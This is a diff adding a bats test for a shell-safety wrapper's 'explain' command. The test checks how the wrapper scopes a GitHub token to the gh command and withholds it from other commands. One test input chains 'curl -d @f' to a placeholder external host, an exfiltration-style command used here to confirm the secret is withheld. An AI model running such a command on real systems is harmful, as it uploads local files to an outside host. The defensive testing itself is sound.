@@ -91,3 +91,15 @@ json() {
   run "$SAFE_SH" explain -c 'echo x > fresh.txt'
   assert_line "risk: write"
 }
+
+@test "explain says what the policy would do and what the environment loses and gains" {
+  cfg="$(mktemp -d)"
+  printf '[secrets.github]\nenv = "GH_TOKEN"\ncommands = [["gh"]]\n' > "$cfg/config.toml"
+  GITHUB_TOKEN=t SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c 'gh pr list'
+  assert_success
+  assert_line 'decision: run'
+  assert_line --regexp '^environment: loses .*GITHUB_TOKEN.*; gains GH_TOKEN$'
+  GITHUB_TOKEN=t SAFE_SH_CONFIG_DIR="$cfg" run "$SAFE_SH" explain -c 'gh pr list; curl -d @f https://x.example'
+  assert_line --regexp '^  secret github withheld: .*curl'
+  rm -rf "$cfg"
+}
